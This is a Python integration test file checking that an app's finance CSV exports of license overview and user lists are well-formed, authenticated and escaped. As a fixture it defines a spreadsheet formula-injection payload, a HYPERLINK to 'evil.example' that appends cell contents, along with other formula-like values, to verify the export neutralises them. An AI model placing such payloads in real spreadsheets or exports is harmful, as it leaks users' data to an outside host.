"""CSV exports for finance through the local stack: the overview's applications and a profile's users."""

from __future__ import annotations

import csv
import io

from seatkeeper.licensing.export import OVERVIEW_COLUMNS, USER_COLUMNS
from tests.integration.test_reconciliation import connected, wait_for_reconciliation
from tests.paging_app import paging_app

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def rows(answer):
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_the_overview_and_an_application_s_users_download_as_csv_that_no_spreadsheet_runs(api):
    integrator, viewer = api("sam_integrator"), api("sam_viewer")
    with paging_app(60) as app:
        # Given an app whose SaaS users and whose own name and cost center look like formulas
        app.users[1]["name"] = FORMULA
        app.users[2]["email"] = "@SUM(1+1)@example.com"
        profile = connected(
            integrator,
            app,
            name="+Exported app",
            subscription={
                "licenses_purchased": 80,
                "cost_per_license": 30,
                "billing_period": "quarterly",
                "cost_center": "-Finance",
            },
        )
        started = integrator.post("/reconciliations", json={"profile_ids": [profile["id"]]}).json()
        assert wait_for_reconciliation(integrator, started["id"])["status"] == "completed"

    # When finance downloads the overview
    overview = viewer.get("/analytics/overview").json()
    exported = rows(viewer.get("/analytics/overview.csv"))
    # Then there is a row per application, with its position and money per month and per year
    assert len(exported) == len(overview["per_application"]) and list(exported[0]) == list(OVERVIEW_COLUMNS)
    mine = next(r for r in exported if r["profile_id"] == profile["id"])
    position = viewer.get(f"/profiles/{profile['id']}/position").json()
    assert (mine["application"], mine["cost_center"]) == ("'+Exported app", "'-Finance")
    assert int(mine["assigned"]) == position["assigned"] and int(mine["stale"]) == position["stale"]
    assert float(mine["spend_per_month"]) == 80 * 10 and float(mine["spend_per_year"]) == 80 * 120
    assert float(mine["cost_per_license_per_month"]) == 10.0 and mine["currency"] == "USD"
    assert float(mine["potential_savings_per_month"]) == position["potential_savings"]["amount"] / 3

    # And the application's users, every one of them, the same way
    users = rows(viewer.get(f"/profiles/{profile['id']}/users.csv"))
    # (by id: the export streams every user in the store's order, however many there are)
    listed = viewer.get(f"/profiles/{profile['id']}/users", params={"limit": 500, "sort": "id"}).json()["items"]
    assert list(users[0]) == list(USER_COLUMNS) and [u["id"] for u in users] == [u["id"] for u in listed]
    by_id = {u["id"]: u for u in users}
    assert by_id[app.users[1]["id"]]["name"] == "'" + FORMULA
    assert by_id[app.users[2]["id"]]["email"] == "'@SUM(1+1)@example.com"
    never = next(u for u in listed if u["last_activity"] is None and u["active"])
    assert (by_id[never["id"]]["last_activity"], by_id[never["id"]]["activity"]) == ("", "never signed in")
    stale = rows(viewer.get(f"/profiles/{profile['id']}/users.csv", params={"status": "stale"}))
    assert {u["status"] for u in stale} == {"stale"} and len(stale) == position["stale"]


def test_csv_exports_need_a_token_and_refuse_bad_input(api):
    assert api(None).get("/analytics/overview.csv").status_code == 401
    viewer = api("sam_viewer")
    assert viewer.get("/profiles/prf_00000000000000000000/users.csv").status_code == 404
    assert viewer.get("/profiles/not-an-id/users.csv").status_code == 422
    answer = viewer.get("/profiles/prf_00000000000000000000/users.csv", params={"status": "everyone"})
    assert answer.status_code == 422


def test_the_exports_are_in_the_openapi_document_as_csv(api):
    paths = api(None).get("/openapi.json").json()["paths"]
    for path in ("/analytics/overview.csv", "/profiles/{profile_id}/users.csv"):
        assert "text/csv" in paths[path]["get"]["responses"]["200"]["content"], path
    overview = api(None).get("/openapi.json").json()["components"]["schemas"]["Overview"]["properties"]
    for field in ("actual_savings_ytd", "saved_run_rate", "unassigned", "stale_percent_of_assigned"):
        assert field in overview, field
